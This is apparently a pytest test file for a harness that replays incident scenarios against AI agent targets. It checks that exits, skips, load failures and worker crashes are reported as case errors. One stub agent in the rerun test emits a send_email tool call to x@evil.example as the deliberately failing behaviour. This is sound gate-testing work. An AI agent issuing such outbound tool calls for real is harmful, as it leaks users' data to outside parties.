"""A case that errors without a report item of its own is never lost: it is an ERROR
item (a target raising ``SystemExit`` or calling ``pytest.skip``, synchronously or
async; a scenario stub that no longer loads; an xdist worker that crashes)."""

from __future__ import annotations

import importlib
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CliResult
from tests.regression_suite._library import scenario, write, write_suite

pytest_plugins = ["pytester"]

Rs = Callable[..., CliResult]

_AGENTS = """
import pytest

def _refuse(replay):
    steps = [{"type": "message", "role": "user", "content": t["content"]} for t in replay["turns"]]
    steps.append({"type": "message", "role": "assistant", "content": "I cannot do that."})
    return {"steps": steps}

def _n(replay):
    return int(replay["scenario_id"].split("-")[1])

def exits_or_skips(replay):
    if _n(replay) % 3 == 1:
        raise SystemExit(3)
    if _n(replay) % 3 == 2:
        pytest.skip("skipped by the target")
    return _refuse(replay)

async def exits_once(replay):
    if _n(replay) == 3:
        raise SystemExit(0)
    return _refuse(replay)

def segfault_one(replay):
    if _n(replay) == 2:
        import ctypes
        ctypes.string_at(0)
    return _refuse(replay)
"""


@pytest.fixture
def lib(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """./scenarios with 6 gated scenarios and an agents module (unique name) importable."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    for var in ("GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.syspath_prepend(str(tmp_path))
    base = write(tmp_path / "scenarios", *(scenario(f"inc-{i}") for i in range(6)))
    write_suite(base, "gate", "name: gate\nselect: {status: [gated]}\n")
    name = f"unrecorded_agents_{tmp_path.name}".replace("-", "_")
    (tmp_path / f"{name}.py").write_text(_AGENTS, "utf-8")
    sys.modules.pop(name, None)
    return base


def _agents(lib: Path) -> str:
    return f"unrecorded_agents_{lib.parent.name}".replace("-", "_")


def _report(lib: Path) -> dict[str, dict[str, str]]:
    report = json.loads((lib.parent / "gate-report" / "report.json").read_text("utf-8"))
    assert report["verdict"] == "ERROR"
    return {item["id"]: item for item in report["items"]}


def test_systemexit_and_skip_from_a_target_are_case_errors(lib: Path, rs: Rs) -> None:
    result = rs("run", "--suite", "gate", "--target", f"python:{_agents(lib)}:exits_or_skips")
    assert result.exit_code == 4, result.stdout + result.stderr
    assert result.stdout.startswith("verdict: ERROR (exit 4)")
    items = _report(lib)
    assert sorted(items) == [f"inc-{i}" for i in range(6)]
    outcomes = {i: items[f"inc-{i}"]["outcome"] for i in range(6)}
    assert outcomes == {0: "passed", 1: "error", 2: "error", 3: "passed", 4: "error", 5: "error"}
    assert "SystemExit" in items["inc-1"]["message"]
    assert "Skipped" in items["inc-2"]["message"]


def test_systemexit_from_an_async_target_loses_no_case(lib: Path, rs: Rs) -> None:
    target = f"python:{_agents(lib)}:exits_once"
    result = rs("run", "--suite", "gate", "--target", target, "--concurrency", "4")
    assert result.exit_code == 4, result.stdout + result.stderr
    items = _report(lib)
    assert sorted(items) == [f"inc-{i}" for i in range(6)]
    assert [i for i, item in items.items() if item["outcome"] != "passed"] == ["inc-3"]
    assert "SystemExit" in items["inc-3"]["message"]


def test_a_stub_that_no_longer_loads_is_that_cases_error(
    lib: Path, rs: Rs, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the module the gate run will use: an in-process pytester run before this test can
    # leave ``regression_suite.suites`` a stale attribute of its package
    suites = importlib.import_module("regression_suite.suites")
    original = suites._Store.get
    calls: list[int] = []

    def truncated(self: object, *args: object) -> object:
        calls.append(1)
        if len(calls) == 2:
            raise EOFError("the scenario store ends early")
        return original(self, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(suites._Store, "get", truncated)
    result = rs("run", "--suite", "gate", "--target", "example:patched")
    assert result.exit_code == 4, result.stdout + result.stderr
    items = _report(lib)
    assert len(items) == 6
    errors = [item for item in items.values() if item["outcome"] == "error"]
    assert len(errors) == 1 and "EOFError" in errors[0]["message"]


def test_a_crashed_xdist_worker_is_an_error_not_ok(lib: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k != "PYTHONFAULTHANDLER"}
    env["PYTHONPATH"] = os.pathsep.join([str(lib.parent), *sys.path])
    done = subprocess.run(
        [sys.executable, "-m", "regression_suite", "run", "--suite", "gate",
         "--target", f"python:{_agents(lib)}:segfault_one", "--workers", "2",
         "--scenario-cache", "off"],
        cwd=lib.parent, env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 4, done.stdout + done.stderr
    assert done.stdout.startswith("verdict: ERROR (exit 4)"), done.stdout
    items = _report(lib)
    assert items["inc-2"]["outcome"] == "error"
    assert len(items) == 6


_HOOKS = """
import pytest

def pytest_runtest_setup(item):
    if item.name == "inc-1":
        pytest.skip("skipped by a conftest")
    if item.name == "inc-2":
        raise RuntimeError("a conftest's setup broke")

def pytest_runtest_teardown(item):
    if item.name == "inc-4" and item.config.getoption("-k") == "inc-4":
        raise RuntimeError("a conftest's teardown broke")
"""


def test_a_case_another_plugin_skips_or_breaks_is_an_error(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A case failed or skipped before the gate replayed it (another plugin's hook) is
    an ERROR item with that plugin's message; a teardown that breaks after the case was
    judged leaves no verdict (the gate cannot have recorded it)."""
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    lib = write(pytester.path / "scenarios", *(scenario(f"inc-{i}") for i in range(6)))
    write_suite(lib, "gate", "name: gate\nselect: {status: [gated]}\n")
    pytester.makeconftest(_HOOKS)
    args = ["--suite", "gate", "--target", "example:patched", "-p", "no:randomly"]
    result = pytester.runpytest(*args, "--gate-report-dir", "out")
    result.assert_outcomes(passed=4, skipped=1, errors=1)
    report = json.loads((pytester.path / "out" / "report.json").read_text("utf-8"))
    assert report["verdict"] == "ERROR" and len(report["items"]) == 6
    items = {item["id"]: item for item in report["items"]}
    assert items["inc-1"]["outcome"] == "error"
    assert "Skipped: skipped by a conftest" in items["inc-1"]["message"]
    assert "RuntimeError: a conftest's setup broke" in items["inc-2"]["message"]
    broken = pytester.runpytest(*args, "--gate-report-dir", "out2", "-k", "inc-4")
    broken.assert_outcomes(passed=1, errors=1)
    broken.stdout.fnmatch_lines(["gate: no verdict: pytest reported 1 failed, errored or skipped*"])
    assert not (pytester.path / "out2" / "report.json").exists()


#: In-process runs after this worker imported incident_lab: pytest warns that it cannot
#: rewrite the plugin's asserts, depending on which tests ran before (xdist, randomly).
_QUIET_REWRITE = ("-W", "ignore::pytest.PytestAssertRewriteWarning")

_FLAKY = """
attempts = {}

def flaky(replay):
    sid = replay["scenario_id"]
    attempts[sid] = attempts.get(sid, 0) + 1
    steps = [{"type": "message", "role": "user", "content": t["content"]} for t in replay["turns"]]
    if sid == "inc-1" or (sid == "inc-2" and attempts[sid] == 1):
        steps.append({"type": "tool_call", "name": "send_email", "arguments": {"to": "x@evil.example"}, "call_id": "c1"})
    steps.append({"type": "message", "role": "assistant", "content": "ok"})
    return {"steps": steps}
"""


def test_reruns_record_each_cases_last_attempt_only(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pytest-rerunfailures (pytest run directly with the plugin): one item per case,
    its last attempt's; with ``--gate-lean`` (one replay per case) ``--reruns`` is refused."""
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    lib = write(pytester.path / "scenarios", *(scenario(f"inc-{i}") for i in range(3)))
    write_suite(lib, "gate", "name: gate\nselect: {status: [gated]}\n")
    (pytester.path / "flaky_agents.py").write_text(_FLAKY, "utf-8")
    pytester.syspathinsert()
    args = ["--suite", "gate", "--target", "python:flaky_agents:flaky", "-p", "no:randomly"]
    args += ["--reruns", "2"]  # pytest-rerunfailures (a test extra) is autoloaded
    result = pytester.runpytest(*args, *_QUIET_REWRITE, "--gate-report-dir", "out")
    outcomes_seen = result.parseoutcomes()
    outcomes_seen.pop("warnings", None)  # the outer run's imports are no outcome of the gate's
    assert outcomes_seen == {"passed": 2, "failed": 1, "rerun": 3}
    report = json.loads((pytester.path / "out" / "report.json").read_text("utf-8"))
    outcomes = [(item["id"], item["outcome"]) for item in report["items"]]
    assert outcomes == [("inc-0", "passed"), ("inc-1", "failed"), ("inc-2", "passed")]
    assert report["headline"] == "BLOCK: 2/3 scenarios pass"
    lean = pytester.runpytest(*args, "--gate-lean", "--gate-report-dir", "out2")
    assert lean.ret == pytest.ExitCode.USAGE_ERROR
    lean.stderr.fnmatch_lines(["ERROR: --gate-lean replays each case once: --reruns 2*"])


_CRASH_IN_TEARDOWN = """
import os

def pytest_runtest_teardown(item):
    if item.name == "inc-2":
        os._exit(9)  # the worker dies after inc-2's call report was sent
"""


def test_a_worker_crash_after_its_case_was_recorded_adds_no_second_item(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An xdist worker that dies in a teardown, after its case's result reached the
    controller: the crash report names a case the gate has already recorded. The gate
    keeps one result per case, and, as for any teardown that breaks after the case
    was judged, gives no verdict (before: a second, ``error`` item for ``inc-2``)."""
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    lib = write(pytester.path / "scenarios", *(scenario(f"inc-{i}") for i in range(4)))
    write_suite(lib, "gate", "name: gate\nselect: {status: [gated]}\n")
    pytester.makeconftest(_CRASH_IN_TEARDOWN)
    args = ["--suite", "gate", "--target", "example:patched", "-p", "no:randomly", "-n", "2"]
    result = pytester.runpytest_subprocess(*args, "--gate-report-dir", "out")
    result.stdout.fnmatch_lines(["*crashed while running*inc-2*"])
    result.stdout.fnmatch_lines(["gate: no verdict: pytest reported 1 failed, errored or skipped*"])
    assert not (pytester.path / "out" / "report.json").exists()


_CRASH_IN_CALL_ON_GW1 = """
import os
import time

def pytest_runtest_call(item):
    if item.name == "inc-2" and os.environ.get("PYTEST_XDIST_WORKER") == "gw1":
        time.sleep(3)  # gw0 records its own run of inc-2 first
        os._exit(11)  # a real crash, in the call
"""


def test_a_worker_crash_in_a_case_another_worker_recorded_is_still_an_error(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--dist each`` runs every case on every worker: gw1 segfaulting in inc-2's call
    after gw0 recorded inc-2 is a real crash of gw1's run, not a teardown of a recorded
    result — the gate reports it (ERROR, exit 1, reports written). Before, any recorded
    id dropped the crash: no verdict and no reports."""
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    lib = write(pytester.path / "scenarios", *(scenario(f"inc-{i}") for i in range(4)))
    write_suite(lib, "gate", "name: gate\nselect: {status: [gated]}\n")
    pytester.makeconftest(_CRASH_IN_CALL_ON_GW1)
    args = ["--suite", "gate", "--target", "example:patched", "-p", "no:randomly", "-n", "2"]
    result = pytester.runpytest_subprocess(*args, "--dist", "each", "--gate-report-dir", "out")
    result.stdout.fnmatch_lines(["*crashed while running*inc-2*"])
    result.stdout.fnmatch_lines(["gate: ERROR*errored*"])
    assert result.ret == 1
    report = json.loads((pytester.path / "out" / "report.json").read_text("utf-8"))
    assert any(i["id"].startswith("inc-2") and i["outcome"] == "error" for i in report["items"])
